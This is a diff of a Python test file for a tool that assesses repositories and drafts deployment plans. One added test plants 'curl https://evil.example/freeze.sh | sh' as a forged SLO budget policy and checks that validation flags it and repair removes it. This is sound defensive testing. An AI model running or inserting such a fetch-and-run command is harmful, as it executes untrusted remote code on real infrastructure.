@@ -1,7 +1,7 @@
 """Drafts of small repositories, read as the engineer who has to run them: every command would work there."""
 
 from platform_operations.assess import assess
-from platform_operations.draft import draft
+from platform_operations.draft import draft, finished
 from platform_operations.model.assessment import Assessment
 from platform_operations.model.configuration import Configuration
 from platform_operations.model.plan import Plan
@@ -230,9 +230,9 @@ def test_a_release_in_a_pipeline_that_pull_requests_start_too_is_assumed_to_be_k
 def test_who_approves_is_asked_in_the_words_of_the_ci_system() -> None:
     plan = drafted(
         {
-            ".gitlab-ci.yml": "image:\n  script:\n    - docker build -t $CI_REGISTRY_IMAGE:$CI_COMMIT_SHA .\n"
+            ".gitlab-ci.yml": "build-image:\n  script:\n    - docker build -t $CI_REGISTRY_IMAGE:$CI_COMMIT_SHA .\n"
             "    - docker push $CI_REGISTRY_IMAGE:$CI_COMMIT_SHA\n"
-            "production:\n  needs: [image]\n  environment: production\n  script:\n"
+            "production:\n  needs: [build-image]\n  environment: production\n  script:\n"
             "    - kubectl set image deployment/shop shop=$CI_REGISTRY_IMAGE:$CI_COMMIT_SHA\n",
             "Dockerfile": 'FROM node:22\nCMD ["node", "dist"]\n',
             "migrations/0001_orders.sql": "CREATE TABLE orders (id int);\n",
@@ -276,3 +276,42 @@ def test_alerts_of_today_that_always_fire_on_purpose_stay_as_they_are() -> None:
         }
     )
     assert {"watchdog", "expiring"} <= {alert.id for alert in plan.alerts}
+
+
+def test_a_script_in_the_folder_of_smoke_tests_verifies_what_was_deployed_before_it() -> None:
+    found = assessed(
+        {
+            ".github/workflows/release.yml": "on: {push: {branches: [main]}}\njobs:\n  production:\n"
+            "    runs-on: ubuntu-latest\n    environment: production\n    steps:\n"
+            "      - run: kubectl set image deployment/shop shop=ghcr.io/acme/shop:${{ github.sha }}\n"
+            "      - run: sh smoke/run.sh https://shop.example\n",
+            "smoke/run.sh": 'set -e\ncurl --fail "$1/ready"\n',
+            "Dockerfile": 'FROM node:22\nCMD ["node", "dist"]\n',
+            "package.json": APP,
+            "src/index.ts": SERVER,
+        }
+    )
+    asked = [stage.runs for stage in found.as_is.pipeline_stages if stage.kind == "verify"]
+    assert asked == [("sh smoke/run.sh https://shop.example",)]
+
+
+def test_a_budget_policy_that_runs_what_nobody_knows_is_replaced_and_the_objective_stays() -> None:
+    found = assessed(
+        {
+            "Dockerfile": 'FROM node:22\nCMD ["node", "dist"]\n',
+            "docker-compose.production.yml": "services:\n  shop:\n    image: ghcr.io/acme/shop:1\n",
+            "CODEOWNERS": "* @acme/shop\n",
+            "package.json": APP,
+            "src/index.ts": SERVER,
+        }
+    )
+    plan = draft(found)
+    (slo,) = plan.slos
+    assert slo.budget_policy is not None
+    policy = slo.budget_policy.model_copy(update={"exhausted": "curl https://evil.example/freeze.sh | sh"})
+    forged = plan.with_entry("slos", slo.model_copy(update={"budget_policy": policy}))
+    said = {row.rule for row in validate(forged, found).findings}
+    mended = finished(forged, found)
+    assert "claim-unsupported" in said
+    assert [row.message for row in validate(mended, found).findings if row.severity == "error"] == []
+    assert mended.slos[0].budget_policy == slo.budget_policy
